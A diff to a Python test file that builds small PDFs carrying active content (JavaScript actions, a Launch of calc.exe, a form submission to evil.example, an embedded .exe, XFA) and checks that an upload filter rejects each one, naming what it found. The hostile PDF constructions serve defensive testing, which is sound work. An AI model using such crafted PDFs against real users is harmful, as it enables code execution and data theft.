@@ -187,5 +187,107 @@ def test_a_pdf_that_runs_javascript_when_opened_is_refused():
     )
     out = io.BytesIO()
     writer.write(out)
-    with pytest.raises(UploadRejected, match="scripts"):
+    with pytest.raises(UploadRejected, match=r"JavaScript \(when the document opens\)"):
         check_upload(out.getvalue())
+
+
+def action(kind: str, **entries):
+    from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+
+    found = DictionaryObject({NameObject("/S"): NameObject(kind)})
+    for key, value in entries.items():
+        found[NameObject(f"/{key}")] = TextStringObject(value)
+    return found
+
+
+def pdf_with(change) -> bytes:
+    """A one-page PDF that ``change(writer, page)`` has given something."""
+    from pypdf import PdfWriter
+
+    writer = PdfWriter()
+    page = writer.add_blank_page(width=200, height=200)
+    change(writer, page)
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def annotated(subtype: str, **entries):
+    """A ``change`` giving the page one annotation with these entries."""
+    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject
+
+    def change(writer, page):
+        annotation = DictionaryObject(
+            {
+                NameObject("/Type"): NameObject("/Annot"),
+                NameObject("/Subtype"): NameObject(subtype),
+                NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (10, 10, 90, 40)]),
+            }
+        )
+        for key, value in entries.items():
+            annotation[NameObject(f"/{key}")] = value
+        page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
+
+    return change
+
+
+def page_opening_script(writer, page):
+    from pypdf.generic import DictionaryObject, NameObject
+
+    page[NameObject("/AA")] = DictionaryObject(
+        {NameObject("/O"): action("/JavaScript", JS="app.alert(1)")}
+    )
+
+
+def widget_script():
+    from pypdf.generic import DictionaryObject, NameObject
+
+    return annotated(
+        "/Widget", AA=DictionaryObject({NameObject("/D"): action("/JavaScript", JS="this.x()")})
+    )
+
+
+def named_script(writer, page):
+    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
+
+    scripts = ArrayObject([TextStringObject("init"), action("/JavaScript", JS="app.alert(1)")])
+    writer.root_object[NameObject("/Names")] = DictionaryObject(
+        {NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): scripts})}
+    )
+
+
+def xfa_form(writer, page):
+    from pypdf.generic import ArrayObject, DictionaryObject, NameObject
+
+    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
+        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): ArrayObject()}
+    )
+
+
+ACTIVE_PDFS = [
+    ("page-open-script", page_opening_script, "JavaScript (on page 1)"),
+    ("link-script", annotated("/Link", A=action("/JavaScript", JS="app.alert(1)")), "JavaScript"),
+    ("widget-script", widget_script(), "JavaScript (on page 1)"),
+    ("launch", annotated("/Link", A=action("/Launch", F="calc.exe")), "starts a program"),
+    ("submit-form", annotated("/Link", A=action("/SubmitForm", F="https://evil.example/")),
+     "sends data"),
+    ("import-data", annotated("/Link", A=action("/ImportData", F="data.fdf")), "imports data"),
+    ("remote-goto", annotated("/Link", A=action("/GoToR", F="other.pdf")), "opens another file"),
+    ("names-script", named_script, "JavaScript (when the document opens)"),
+    ("embedded-file", lambda writer, page: writer.add_attachment("x.exe", b"MZ"),
+     "embedded files"),
+    ("xfa", xfa_form, "XFA form"),
+]  # fmt: skip
+
+
+def test_pdfs_with_active_content_anywhere_are_refused_saying_what_was_found(app, editor):
+    page_id = new_page(editor)
+    for name, change, found in ACTIVE_PDFS:
+        response = upload(editor, page_id, pdf_with(change), f"{name}.pdf")
+        text = response.get_data(as_text=True)
+        assert response.status_code == 422, name
+        assert "active content are not accepted" in text and found in text, name
+    assert not any(Path(app.config["UPLOAD_FOLDER"]).glob("*")), "nothing is stored"
+
+    web_link = annotated("/Link", A=action("/URI", URI="https://example.org/"))
+    assert upload(editor, page_id, pdf_with(web_link), "links.pdf").status_code == 303
